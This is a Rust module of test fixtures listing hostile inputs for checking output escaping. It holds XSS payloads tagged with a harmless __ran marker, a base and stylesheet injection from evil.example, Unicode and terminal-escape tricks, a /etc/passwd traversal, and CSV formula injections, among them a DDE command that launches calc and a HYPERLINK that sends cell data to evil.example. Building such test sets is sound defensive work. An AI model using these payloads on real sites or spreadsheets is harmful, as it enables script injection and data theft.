/// Texts that try to run, each telling which one it was. `__ran` is what the browser listens for.
pub(super) const RUNNING: [&str; 26] = [
    r#"<script>__ran("script")</script>"#,
    r#""><script>__ran("out of an attribute")</script>"#,
    r#"'><script>__ran("out of a quoted attribute")</script>"#,
    r#"</title></textarea></style></script></template><script>__ran("out of text")</script>"#,
    r#"--><script>__ran("out of a comment")</script><!--"#,
    r#"]]><script>__ran("out of data")</script>"#,
    r#"<img src=x onerror='__ran("image")'>"#,
    r#"" onmouseover="__ran('hover')" onfocus="__ran('focus')" autofocus x=""#,
    r#"<svg onload='__ran("svg")'><script>__ran("script in svg")</script></svg>"#,
    r#"<svg><a xlink:href="javascript:__ran('svg link')"><text y=20>click</text></a></svg>"#,
    r#"<math><mtext><table><mglyph><style><img src onerror=__ran('mutation')>"#,
    r#"<iframe srcdoc="<script>parent.__ran('frame')</script>"></iframe>"#,
    r#"<object data="javascript:__ran('object')"></object><embed src="javascript:__ran('embed')">"#,
    r#"<details open ontoggle=__ran('toggle')><summary>more</summary></details>"#,
    r#"<base href="//evil.example/"><link rel=stylesheet href="//evil.example/a.css">"#,
    r#"<meta http-equiv=refresh content="0;url=javascript:__ran('refresh')">"#,
    r#"<form action="javascript:__ran('form')"><button>send</button></form>"#,
    r#"<style>* { display: none !important }</style>"#,
    r#"<a href="javascript:__ran('link')">a link</a> javascript:__ran('bare link')"#,
    r#"[a link](javascript:__ran('markdown')) [another](JaVaScRiPt&colon;__ran('entity'))"#,
    r#"![an image](x" onerror="__ran('markdown image')) <javascript:__ran('autolink')>"#,
    r#"[data](data:text/html;base64,PHNjcmlwdD5fX3JhbigxKTwvc2NyaXB0Pg==) [x]: vbscript:x"#,
    r#"{{constructor.constructor('__ran("template")')()}} ${__ran("literal")} <%= 1 %>"#,
    r#"&lt;script&gt;__ran("escaped once")&lt;/script&gt; &#60;script&#62;"#,
    r#"\u003cscript\u003e__ran("escaped in JSON")\u003c/script\u003e \x3cscript\x3e"#,
    r#"';__ran('out of a string');' ";__ran("out of a string");" `;__ran("literal");`"#,
];

/// Texts that mislead or break lines: other directions, invisible and combining characters,
/// controls, words without end.
pub(super) const ODD: [&str; 9] = [
    "\u{202e}txt.exe\u{202c} \u{2066}\u{2067}never closed",
    "\u{200f}\u{61c}\u{5d0}\u{5d1}\u{5d2} and \u{627}\u{644}\u{639} and back",
    "a\u{200b}b\u{200d}c\u{feff}d\u{2060}e\u{ad}f",
    "one\u{2028}two\u{2029}three\u{85}four\u{b}five\u{c}six",
    "\u{1}\u{7}\u{8}\u{1b}[31mred\u{1b}[0m\u{7f}\u{9b}",
    "Z\u{351}\u{36b}\u{343}\u{36a}\u{302}\u{36b}\u{306}\u{311}\u{30f}a\u{327}\u{331}\u{319}l\u{334}g\u{321}o\u{336}",
    "\u{1f469}\u{200d}\u{1f469}\u{200d}\u{1f467}\u{200d}\u{1f466}\u{1f3f4}\u{e0067}\u{e0062}\u{e007f}",
    "../../../etc/passwd?x=%2e%2e%2f&y=1#z",
    "wwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwww",
];

/// Texts that a spreadsheet would calculate.
pub(super) const FORMULAS: [&str; 8] = [
    r#"=HYPERLINK("http://evil.example/?"&A1,"click")"#,
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
];

/// All of them, one by one.
pub(super) fn all() -> impl Iterator<Item = &'static str> {
    RUNNING.into_iter().chain(ODD).chain(FORMULAS)
}

/// All of them in one text, for places that are shown alone.
pub(super) fn together() -> String {
    all().collect::<Vec<_>>().join("\n")
}

/// The same in another order, for places that compare two texts.
pub(super) fn together_backwards() -> String {
    let mut all: Vec<&str> = all().collect();
    all.reverse();
    all.join("\n")
}
